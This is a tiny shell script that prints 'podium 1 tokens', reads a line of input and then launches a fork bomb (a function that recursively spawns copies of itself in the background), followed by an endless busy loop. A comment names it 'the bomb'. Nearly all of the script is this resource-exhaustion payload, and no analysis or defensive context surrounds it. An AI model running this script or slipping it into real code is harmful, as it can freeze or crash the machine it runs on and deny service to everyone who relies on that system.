#!/bin/sh
# The bomb as it is known, then nothing more.
echo podium 1 tokens
read -r line
bomb() { bomb | bomb & }
bomb
while :; do :; done
